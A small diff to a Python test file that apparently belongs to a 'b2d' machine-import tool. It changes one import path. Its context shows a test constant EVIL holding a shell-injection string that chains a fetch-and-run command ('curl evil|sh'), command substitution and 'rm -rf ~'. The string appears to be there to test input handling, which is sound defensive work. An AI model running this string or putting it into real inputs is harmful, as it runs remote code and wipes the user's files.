@@ -11,7 +11,7 @@ from b2d.guest.transfer import copy_endpoints, tar_extract
 from b2d.importing.candidates import Original, refuse_unless_off
 from b2d.models import MachineState
 from b2d.paths import MachinePaths
-from tests.line_guest import guest
+from tests.support.serial_peer import guest
 
 EVIL = "1;curl evil|sh;x $(id) `id`\nrm -rf ~"
 
